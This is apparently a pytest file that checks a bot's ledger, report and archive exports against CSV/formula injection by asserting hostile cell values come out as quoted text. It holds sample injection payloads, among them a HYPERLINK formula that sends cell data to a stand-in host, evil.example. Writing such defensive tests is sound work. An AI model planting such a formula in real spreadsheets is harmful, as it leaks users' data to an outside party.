"""Office files never carry a live formula (OWASP CSV injection): a project named
``=HYPERLINK(…)``, a person named ``=1+1`` or a zone ``-2+3`` is written as text in the ledger
(XLSX and CSV), the periodic report (XLSX) and the project file's CSV tables."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from bot.app import build_app
from bot.archive import write_archive
from bot.config import Settings
from bot.ledger import export_ledger
from bot.report_cli import report_command
from bot.stories import StoryRunner, parse_story
from domain.calendar import WorkCalendar
from domain.cells import safe_row, text_cell
from domain.clock import FakeClock
from domain.scheme_loader import load_scheme
from storage.db import Database
from storage.models import Person, Project
from storage.uow import UnitOfWork

STORIES = Path(__file__).parent / "stories"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
SUM = "=1+1"
ZONE = "-2+3"


async def _played(tmp_path: Path, name: str) -> str:
    url = f"sqlite+aiosqlite:///{tmp_path / 'story.sqlite3'}"
    path = STORIES / name
    story = parse_story(path.read_text(encoding="utf-8"), str(path))
    result = await StoryRunner(story, url, tmp_path).run()
    assert result.ok, "\n".join(str(f) for f in result.failures)
    db = Database(url)
    try:
        async with UnitOfWork(db) as uow:  # what a hostile enterprise and roster could type
            await uow.session.execute(update(Project).values(name=LINK, zone=ZONE))
            await uow.session.execute(update(Person).values(name=SUM))
            await uow.commit()
    finally:
        await db.dispose()
    return url


def _cells_of_xlsx(data: bytes) -> list[tuple[str, object]]:
    book = load_workbook(io.BytesIO(data))
    rows = [row for sheet in book for row in sheet.iter_rows()]
    return [(cell.data_type, cell.value) for row in rows for cell in row]


def _cells_of_csv(data: bytes) -> list[tuple[str, object]]:
    """The CSV opened as a spreadsheet would: each field into a cell, then saved and read back."""
    book = Workbook()
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return _cells_of_xlsx(buffer.getvalue())


def _no_formula_but_the_text(cells: list[tuple[str, object]], *texts: str) -> None:
    assert [value for kind, value in cells if kind == "f"] == []
    shown = {value for _, value in cells}
    for text in texts:
        assert "'" + text in shown, (text, shown)


def test_the_rule_quotes_exactly_the_formula_starts() -> None:
    hostile = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    assert [text_cell(v) for v in hostile] == ["'" + v for v in hostile]
    plain = ["张家湾车辆段", "2026-11-02", "", "P2026-0007", "a=b", 7, -3, 1.5, None]
    assert safe_row(plain) == plain


async def test_ledger_and_archive_hold_no_formula(tmp_path: Path) -> None:
    url = await _played(tmp_path, "team_anshan_plan_backup.yaml")
    db = Database(url)
    now = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)
    try:
        xlsx = await export_ledger(
            db, load_scheme("anshan"), WorkCalendar(), "xlsx", tmp_path / "l.xlsx", now
        )
        as_csv = await export_ledger(
            db, load_scheme("anshan"), WorkCalendar(), "csv", tmp_path / "l.csv", now
        )
        archive = await write_archive(db, load_scheme("anshan"), "P2026-0007", tmp_path / "a.zip")
    finally:
        await db.dispose()
    _no_formula_but_the_text(_cells_of_xlsx(xlsx.read_bytes()), LINK, SUM)
    _no_formula_but_the_text(_cells_of_csv(as_csv.read_bytes()), LINK, SUM)
    with zipfile.ZipFile(archive) as files:
        tables = [name for name in files.namelist() if name.endswith(".csv")]
        assert len(tables) == 5  # checklist, work log, ratings, documents, completion
        cells = [cell for name in tables for cell in _cells_of_csv(files.read(name))]
    _no_formula_but_the_text(cells, SUM)  # the work log names its people


async def test_report_xlsx_holds_no_formula(tmp_path: Path) -> None:
    url = await _played(tmp_path, "reminders_jinniu_monthly_rating.yaml")
    now = datetime(2026, 12, 31, 12, tzinfo=ZoneInfo("Asia/Shanghai"))
    app = await build_app(Settings(database_url=url, scheme="jinniu"), clock=FakeClock(now))
    try:
        target = tmp_path / "m.xlsx"
        await report_command(app.services, "monthly", "2026-12", "xlsx", target, "en", now)
    finally:
        await app.close()
    _no_formula_but_the_text(_cells_of_xlsx(target.read_bytes()), ZONE)
